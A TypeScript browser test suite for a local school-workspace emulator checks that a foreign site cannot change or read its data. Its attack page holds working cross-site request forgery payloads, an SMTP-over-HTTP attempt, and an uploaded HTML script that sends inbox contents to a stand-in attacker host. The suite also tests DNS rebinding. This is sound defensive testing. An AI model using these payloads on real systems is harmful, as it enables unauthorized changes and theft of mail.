import { createServer, type Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Workspace } from '../../workspace/workspace.ts';
import { inBrowser, openBrowser } from '../browser.ts';
import { openNewSchool } from './new-school.ts';

let workspace: Workspace;
let evil: Server;
let evilPort: number;
let browser: Browser;
/** The page that the other site returns next. */
let evilPage = '';
/** Data that a page read and sent to its own site. */
const loot: string[] = [];

beforeAll(async () => {
  // The hardest case: the emulator accepts any token, so only the browser's headers identify a foreign page.
  workspace = await openNewSchool('2026-06-01', { seed: 7 });
  // The first request for the keys creates one.
  await fetch(`${workspace.url}oauth2/v1/certs`);
  evil = createServer((request, response) => {
    let sent = '';
    request.on('data', (chunk: Buffer) => {
      sent += chunk.toString();
    });
    request.on('end', () => {
      if (request.method === 'POST') loot.push(sent);
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(evilPage);
    });
  });
  evilPort = await new Promise((resolve) => {
    evil.listen(0, '127.0.0.1', () => {
      const address = evil.address();
      resolve(typeof address === 'object' && address ? address.port : 0);
    });
  });
  browser = await openBrowser(
    '--disable-component-update',
    '--disable-popup-blocking',
    '--host-resolver-rules=MAP *.example 127.0.0.1',
  );
  return async () => {
    await browser.close();
    evil.close();
    evil.closeAllConnections();
    await workspace.close();
  };
});

/** Everything that a page can do to the school at `target` without permission. The page reports the results to `done`. */
const attack = (target: string, spreadsheetId: string, form: string, smtpPort: number) => `<!doctype html><body><script>
const target = ${JSON.stringify(target)};
const said = {};
const html = '<meta charset=utf-8><script>fetch("/inbox/messages").then((a) => a.text()).then((t) => fetch("http://localhost:${evilPort}/", {method: "POST", mode: "no-cors", body: t}))</' + 'script>';
const upload = '--x\\r\\ncontent-type: application/json\\r\\n\\r\\n' + JSON.stringify({ id: 'evil', name: 'x.html', mimeType: 'text/html' }) + '\\r\\n--x\\r\\ncontent-type: text/html\\r\\n\\r\\n' + html + '\\r\\n--x--';
const quietly = (path, body, type) => fetch(target + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([body], { type }) }).then(() => 'sent', String);
const sheet = JSON.stringify({ requests: [{ addSheet: { properties: { title: 'чужой лист' } } }] });
function submit(path, enctype, fields, frame) {
  const form = document.createElement('form');
  Object.assign(form, { action: target + path, method: 'post', enctype, target: frame });
  for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }));
  document.body.append(form);
  form.submit();
}
const loaded = (tag, at, more = {}) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(tag), more);
  element.onload = () => { let inside = 'hidden'; try { inside = element.contentDocument ? element.contentDocument.body.innerText : 'hidden'; } catch (error) { inside = error.name; } resolve('loaded ' + inside); };
  element.onerror = () => resolve('blocked');
  element[tag === 'link' ? 'href' : 'src'] = at;
  document.body.append(element);
});
(async () => {
  said.upload = await quietly('upload/drive/v3/files?uploadType=multipart', upload, 'multipart/form-data; boundary=x');
  said.batch = await quietly('v4/spreadsheets/${spreadsheetId}:batchUpdate?access_token=x', sheet, 'text/plain');
  said.create = await quietly('v4/spreadsheets', '{}', 'application/x-www-form-urlencoded');
  said.form = await quietly('v1/forms', '{"info":{"title":"x"}}', 'text/plain');
  said.documents = await quietly('documents', '', 'application/x-www-form-urlencoded');
  said.answer = await quietly('${form}', 'entry.1=x', 'application/x-www-form-urlencoded');
  said.mail = await fetch('http://127.0.0.1:${smtpPort}/', { method: 'POST', mode: 'no-cors', body: 'EHLO x\\r\\nMAIL FROM:<a@example.org>\\r\\nRCPT TO:<b@example.org>\\r\\nDATA\\r\\nSubject: x\\r\\n\\r\\nx\\r\\n.\\r\\nQUIT\\r\\n' }).then(() => 'sent', String);
  said.read = await fetch(target + 'emulator/programme').then((a) => a.text(), (error) => error.name);
  said.put = await fetch(target + 'v4/spreadsheets/${spreadsheetId}/values/A1?valueInputOption=RAW', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"values":[["x"]]}' }).then((a) => (a.ok ? 'sent' : 'refused'), (error) => error.name);
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    for (const path of ['v4/spreadsheets', 'drive/v3/files', 'documents', 'spreadsheets/d/${spreadsheetId}/row?gid=0&row=2', '${form}']) {
      const frame = document.createElement('iframe');
      frame.name = 'f' + Math.random();
      const done = new Promise((resolve) => { frame.onload = resolve; });
      document.body.append(frame);
      await done;
      const answered = new Promise((resolve) => { frame.onload = resolve; });
      submit(path, enctype, { '{"properties":{"title":"': '"}}', 'now.1': 'чужое', empty: '1' }, frame.name);
      await answered;
    }
  }
  said.image = await loaded('img', target + 'inbox');
  said.script = await loaded('script', target + 'inbox/messages');
  said.frame = await loaded('iframe', target);
  said.object = await loaded('embed', target + 'inbox');
  const opened = open(target, 'victim');
  // If the opened window is isolated from its opener, it looks closed to the opener.
  while (!opened.closed) await new Promise(requestAnimationFrame);
  let seen = 'nothing';
  try { seen = opened.document.body.innerText; } catch (error) { seen = error.name; }
  said.opened = { closed: opened.closed, seen };
  window.done(said);
})();
</script></body>`;

async function attackFrom(host: string): Promise<Record<string, unknown>> {
  const form = Object.values(workspace.programme.forms)[0]?.responderUri ?? '';
  const answers = new URL(form).pathname.slice(1).replace('viewform', 'formResponse');
  evilPage = attack(workspace.url, workspace.spreadsheetId, answers, workspace.inbox.smtpPort);
  const context = await browser.newContext();
  const page = await context.newPage();
  const said = new Promise<Record<string, unknown>>((resolve) => {
    void page.exposeFunction('done', resolve);
  });
  await page.goto(`http://${host}:${evilPort}/`);
  const result = await said;
  await context.close();
  return result;
}

describe('a page of another site in a real browser', inBrowser, () => {
  test.each(['127.0.0.1', 'localhost', 'evil.example'])('changes nothing and learns nothing: %s', async (host) => {
    const before = workspace.emulator.exportState();
    const said = await attackFrom(host);
    expect(said).toMatchObject({
      read: 'TypeError',
      put: host === 'evil.example' ? 'TypeError' : 'refused',
      image: 'blocked',
      script: 'blocked',
      opened: { closed: true, seen: expect.stringMatching(/SecurityError|TypeError/) },
    });
    expect(JSON.stringify(said)).not.toMatch(/Таблицы и формы|Входящие/);
    expect(loot).toEqual([]);
    expect(workspace.emulator.exportState().equals(before)).toBe(true);
  });

  test('gets no access by DNS rebinding: a name of the other site that resolves to this computer', async () => {
    const { port } = new URL(workspace.url);
    const page = await browser.newPage();
    for (const path of ['', 'inbox', 'emulator/programme', `spreadsheets/d/${workspace.spreadsheetId}`]) {
      const answer = await page.goto(`http://rebound.example:${port}/${path}`);
      expect(answer?.status(), path).toBe(403);
      expect(await page.textContent('body')).not.toContain('Таблицы и формы');
    }
    await page.close();
  });

  test('may link to a page', async () => {
    evilPage = `<a href="${workspace.url}inbox">почта</a>`;
    const page = await browser.newPage();
    await page.goto(`http://evil.example:${evilPort}/`);
    await page.click('a');
    expect(await page.textContent('h1')).toContain('Письма');
    await page.close();
  });
});

describe('our own pages in a real browser', inBrowser, () => {
  let page: Page;
  beforeAll(async () => {
    page = await browser.newPage();
    return () => page.close();
  });

  test.each(['127.0.0.1', 'localhost'])('write a row, send a form and prepare documents under %s', async (name) => {
    const root = workspace.url.replace('127.0.0.1', name);
    await page.goto(`${root}spreadsheets/d/${workspace.spreadsheetId}`);
    await page.click('text=Участники');
    await page.click(`a[href*="row="] >> nth=${name === 'localhost' ? 1 : 0}`);
    await page.fill('label:has-text("ФИО") ~ textarea, label:has-text("ФИО") + textarea', `Тестовая Анна (${name})`);
    await page.click('button');
    expect(await page.textContent('main')).toContain(`Тестовая Анна (${name})`);

    const form = Object.values(workspace.programme.forms)[0]?.responderUri ?? '';
    await page.goto(form.replace('127.0.0.1', name));
    await page.click('button[type=submit]');
    // Nothing is filled in, so the page shows what is missing.
    await page.locator('.problem').first().waitFor();
    expect(await page.textContent('body')).not.toContain('с другого сайта');

    await page.goto(`${root}documents`);
    await page.click('button');
    await page.waitForSelector('[role=status], [role=alert]');
  });
});
